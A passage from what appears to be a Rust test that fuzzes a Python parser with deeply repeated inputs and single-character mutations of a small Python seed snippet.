            "'a'+".repeat(20_000),
            "{**".repeat(9000),
            "\\\n".repeat(9000),
            ":".repeat(9000),
            "import ".repeat(9000),
            "a;".repeat(9000),
        ];
        for text in deep {
            does(&text);
        }
        let seed = "import os\nclass A(B):\n    def f(self, x=[1, {2: 3}], *a, **k) -> int:\n        return f'{x!r:>{k}}' if (yield) else lambda y: y[::-1]\nexec('a' 'b' + r\"c\")\n";
        for i in 0..seed.len() {
            for with in ["", "(", "'", "\"\"\"", "\n", ":", "]", "f'{", "\\"] {
                let mut text = seed.to_string();
                text.replace_range(i..i + 1, with);
                does(&text);
            }
        }
    }
}
